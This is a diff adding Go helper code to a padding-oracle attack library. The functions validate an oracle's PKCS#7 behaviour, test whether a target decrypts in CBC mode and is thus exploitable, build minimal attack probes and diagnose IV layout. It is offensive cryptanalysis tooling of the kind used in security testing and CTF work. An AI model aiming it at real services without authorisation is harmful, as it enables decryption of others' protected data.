@@ -0,0 +1,327 @@
+package goracler
+
+import (
+	"crypto/rand"
+	"fmt"
+	"strings"
+)
+
+// ValidatePKCS7Behavior checks that the oracle behaves as expected for a
+// PKCS#7 pad, so the math used by the attack applies to it. It first recovers
+// the intermediate value of a random block and then uses it to build probes
+// that produce each one of the valid pad values, from 0x01 to blockSize, and
+// probes that produce invalid pads. The returned report contains a line per
+// probe that didn't behave as expected, and ok is true only when all the probes
+// behaved as expected. When the intermediate value can't be recovered the
+// oracle is reported as not behaving as expected.
+func ValidatePKCS7Behavior(q Poracle, blockSize int) (report string, ok bool, err error) {
+	cfg := newConfig([]Option{WithBlockLen(blockSize)})
+	if err := cfg.validate(); err != nil {
+		return "", false, err
+	}
+	prev := make([]byte, blockSize)
+	current := make([]byte, blockSize)
+	if _, err := rand.Read(prev); err != nil {
+		return "", false, err
+	}
+	if _, err := rand.Read(current); err != nil {
+		return "", false, err
+	}
+	m, err := decryptBlock(prev, current, q, nopLogger{}, cfg)
+	if err == ErrNoValidByte {
+		// The attack itself relies on the oracle implementing PKCS#7.
+		return fmt.Sprintf("recovering the intermediate value: %s\n", err), false, nil
+	}
+	if err != nil {
+		return "", false, err
+	}
+	// The intermediate value is the decrypted block before xoring it with
+	// the previous one.
+	d := make([]byte, blockSize)
+	for i := range d {
+		d[i] = m[i] ^ prev[i]
+	}
+
+	var b strings.Builder
+	check := func(name string, plaintext []byte, want bool) error {
+		probe := make([]byte, 0, 2*blockSize)
+		for i := range plaintext {
+			probe = append(probe, plaintext[i]^d[i])
+		}
+		probe = append(probe, current...)
+		res, err := q.Do(probe)
+		if err != nil {
+			return err
+		}
+		if got := res > 0; got != want {
+			fmt.Fprintf(&b, "%s: expected valid %t, got valid %t\n", name, want, got)
+		}
+		return nil
+	}
+	for k := 1; k <= blockSize; k++ {
+		p := filledBlock(blockSize, k)
+		if err := check(fmt.Sprintf("pad 0x%02x", k), p, true); err != nil {
+			return "", false, err
+		}
+	}
+	for k := 2; k <= blockSize; k++ {
+		p := filledBlock(blockSize, k)
+		p[blockSize-k] ^= 0xff
+		if err := check(fmt.Sprintf("broken pad 0x%02x", k), p, false); err != nil {
+			return "", false, err
+		}
+	}
+	p := filledBlock(blockSize, 0)
+	p[blockSize-1] = 0
+	if err := check("pad 0x00", p, false); err != nil {
+		return "", false, err
+	}
+	p = filledBlock(blockSize, 0)
+	p[blockSize-1] = byte(blockSize + 1)
+	if err := check(fmt.Sprintf("pad 0x%02x", blockSize+1), p, false); err != nil {
+		return "", false, err
+	}
+	report = b.String()
+	return report, report == "", nil
+}
+
+// filledBlock returns a block with a pad of length k and the rest of the bytes
+// set to a value that can't be part of any pad.
+func filledBlock(blockSize, k int) []byte {
+	p := make([]byte, blockSize)
+	for i := range p {
+		if i >= blockSize-k {
+			p[i] = byte(k)
+			continue
+		}
+		p[i] = 'A'
+	}
+	return p
+}
+
+// IsCBCExploitable checks whether the target decrypts the given valid
+// ciphertext in CBC mode, and thus is exploitable, or uses a mode that checks
+// the integrity of the ciphertext, like an AEAD mode, which is not. It sends
+// three queries to the oracle: the ciphertext as is, which must be valid, the
+// ciphertext with a bit flipped in a byte that doesn't affect the last block
+// of plaintext, which a CBC target still accepts while an AEAD target rejects,
+// and the ciphertext with the last byte of the pad modified, which a CBC
+// target must reject. The byte flipped in the second query is the first byte
+// of the block before the second to last, or the first byte of the IV when the
+// ciphertext only has one block, so for these ciphertexts the target is
+// reported as not exploitable if the pad fills the whole block. The block
+// length is the one set with the WithBlockLen option, the rest of options are
+// ignored.
+func IsCBCExploitable(c []byte, q Poracle, opts ...Option) (bool, error) {
+	cfg := newConfig(opts)
+	if err := cfg.validate(); err != nil {
+		return false, err
+	}
+	n := len(c) / cfg.blockLen
+	if n < 2 || len(c)%cfg.blockLen != 0 {
+		return false, ErrInvalidCiphertext
+	}
+	flipped := func(i int, mask byte) []byte {
+		p := make([]byte, len(c))
+		copy(p, c)
+		p[i] ^= mask
+		return p
+	}
+	unrelated := 0
+	if n > 2 {
+		unrelated = (n - 3) * cfg.blockLen
+	}
+	probes := []struct {
+		c    []byte
+		want bool
+	}{
+		{c, true},
+		{flipped(unrelated, 0x01), true},
+		// The pad is made invalid in the same way invalidPad does.
+		{flipped((n-1)*cfg.blockLen-1, 0xff), false},
+	}
+	for _, p := range probes {
+		res, err := q.Do(p.c)
+		if err != nil {
+			return false, err
+		}
+		if (res > 0) != p.want {
+			return false, nil
+		}
+	}
+	return true, nil
+}
+
+// MinimalProbe returns the two blocks of the ciphertext needed to attack the
+// block of plaintext at the given index: the block of ciphertext before it,
+// or the IV for the first one, and its block of ciphertext. The ciphertext
+// must start with the IV and be block aligned. These two blocks are what the
+// attack sends to the oracle by default, so they are the smallest request a
+// custom probe can send. Minimal probes suit targets that only decrypt and
+// check the pad, while targets that check the length or the structure of the
+// message before the pad need probes built with WithFullMessageProbe or
+// WithValidBlockCount. The block length is the one set with the WithBlockLen
+// option, the rest of options are ignored.
+func MinimalProbe(c []byte, blockIndex int, opts ...Option) ([]byte, error) {
+	cfg := newConfig(opts)
+	if err := cfg.validate(); err != nil {
+		return nil, err
+	}
+	n := len(c) / cfg.blockLen
+	if n < 2 || len(c)%cfg.blockLen != 0 {
+		return nil, ErrInvalidCiphertext
+	}
+	if blockIndex < 0 || blockIndex >= n-1 {
+		return nil, ErrInvalidBlockIndex
+	}
+	p := make([]byte, 2*cfg.blockLen)
+	copy(p, c[blockIndex*cfg.blockLen:])
+	return p, nil
+}
+
+// plausibleRatio is the minimum ratio of printable characters a block must
+// contain to be considered plausible plaintext by Diagnose.
+const plausibleRatio = 0.9
+
+// Diagnose helps detecting the common mistake of including or excluding the
+// IV incorrectly in the ciphertext passed to Decrypt, which produces a garbage
+// first block with no error. It checks whether the oracle accepts the
+// ciphertext as is, and decrypts the first block of plaintext assuming the
+// leading block is the IV and assuming the leading block is the first block
+// of ciphertext encrypted with a zero IV. It returns a report with the
+// results and the most likely layout of the ciphertext. As the report is based
+// on the plaintext being mostly printable, it's not meaningful for binary
+// plaintexts. The options, like WithBlockLen or WithPaddingScheme, set how the
+// first block is decrypted.
+func Diagnose(c []byte, q Poracle, opts ...Option) (string, error) {
+	cfg := newConfig(opts)
+	if err := cfg.validate(); err != nil {
+		return "", err
+	}
+	n := len(c) / cfg.blockLen
+	if n < 2 || len(c)%cfg.blockLen != 0 {
+		return "", ErrInvalidCiphertext
+	}
+	var b strings.Builder
+	res, err := q.Do(c)
+	if err != nil {
+		return "", err
+	}
+	fmt.Fprintf(&b, "blocks: %d\n", n)
+	fmt.Fprintf(&b, "oracle accepts the ciphertext: %t\n", res > 0)
+
+	c0 := c[:cfg.blockLen]
+	c1 := c[cfg.blockLen : 2*cfg.blockLen]
+	withIV, err := decryptBlock(c0, c1, q, nopLogger{}, cfg)
+	if err != nil {
+		return "", err
+	}
+	if n == 2 {
+		if p, err := padLength(withIV, cfg.blockLen); err == nil {
+			withIV = withIV[:cfg.blockLen-p]
+		}
+	}
+	withoutIV, err := decryptBlock(make([]byte, cfg.blockLen), c0, q, nopLogger{}, cfg)
+	if err != nil {
+		return "", err
+	}
+	ivRatio := printable(withIV)
+	zeroRatio := printable(withoutIV)
+	fmt.Fprintf(&b, "first block assuming the leading block is the IV: %q (%.0f%% printable)\n", withIV, ivRatio*100)
+	fmt.Fprintf(&b, "first block assuming a zero IV: %q (%.0f%% printable)\n", withoutIV, zeroRatio*100)
+
+	ivOK := ivRatio >= plausibleRatio
+	zeroOK := zeroRatio >= plausibleRatio
+	switch {
+	case ivOK && zeroOK:
+		b.WriteString("verdict: the leading block can be the IV or the first block of ciphertext encrypted with a zero IV\n")
+	case ivOK:
+		b.WriteString("verdict: the leading block looks like the IV\n")
+	case zeroOK:
+		b.WriteString("verdict: the leading block looks like ciphertext encrypted with a zero IV, the IV seems to be missing\n")
+	default:
+		b.WriteString("verdict: the first block doesn't look like plaintext, the leading block may not be the IV\n")
+	}
+	return b.String(), nil
+}
+
+// printable returns the ratio of printable ASCII characters in the given
+// bytes.
+func printable(m []byte) float64 {
+	if len(m) == 0 {
+		return 1
+	}
+	var p int
+	for _, c := range m {
+		if (c >= 0x20 && c < 0x7f) || c == '\t' || c == '\n' || c == '\r' {
+			p++
+		}
+	}
+	return float64(p) / float64(len(m))
+}
+
+// invalidPad returns a copy of the block prev, placed before a block for which
+// it produces a valid pad, modified to produce an invalid pad. The last byte
+// of a pad is at most the block length, so xoring it with 0xff always makes
+// the pad invalid.
+func invalidPad(prev []byte, cfg *config) []byte {
+	p := make([]byte, len(prev))
+	copy(p, prev)
+	p[cfg.padEnd()] ^= 0xff
+	return p
+}
+
+// queryKnownPad queries the oracle with the given pair of blocks, which must
+// have a valid pad, and with the same pair with the pad made invalid. It
+// returns the results of both queries.
+func queryKnownPad(q Poracle, prev, current []byte, cfg *config) (valid, invalid int, err error) {
+	valid, err = q.Do(cfg.buildProbe(prev, current))
+	if err != nil {
+		return 0, 0, err
+	}
+	invalid, err = q.Do(cfg.buildProbe(invalidPad(prev, cfg), current))
+	if err != nil {
+		return 0, 0, err
+	}
+	return valid, invalid, nil
+}
+
+// checkClassifier returns ErrDegenerateClassifier if the oracle returns the
+// same result for the given pair of blocks, which must have a valid pad, and
+// for the same pair with the pad made invalid.
+func checkClassifier(q Poracle, prev, current []byte, cfg *config) error {
+	valid, invalid, err := queryKnownPad(q, prev, current, cfg)
+	if err != nil {
+		return err
+	}
+	if valid == invalid {
+		return ErrDegenerateClassifier
+	}
+	return nil
+}
+
+// alwaysValidMasks are xored with a block of ciphertext to build the probes
+// used to detect oracles that always report a valid pad. They are fixed, and
+// not random, so the probes are the same for the same ciphertext.
+var alwaysValidMasks = []byte{0xff, 0x55, 0xaa}
+
+// checkAlwaysValid returns ErrAlwaysValidOracle if the oracle reports as valid
+// the pads of all the probes built by modifying the prev block. The
+// probability of a correct oracle reporting all of them as valid is around
+// (1/256)^len(alwaysValidMasks).
+func checkAlwaysValid(q Poracle, prev, current []byte, cfg *config) error {
+	for _, mask := range alwaysValidMasks {
+		p := make([]byte, len(prev))
+		for i := range prev {
+			p[i] = prev[i] ^ mask
+		}
+		res, err := q.Do(cfg.buildProbe(p, current))
+		if err != nil {
+			return err
+		}
+		if res == 0 {
+			return nil
+		}
+	}
+	return ErrAlwaysValidOracle
+}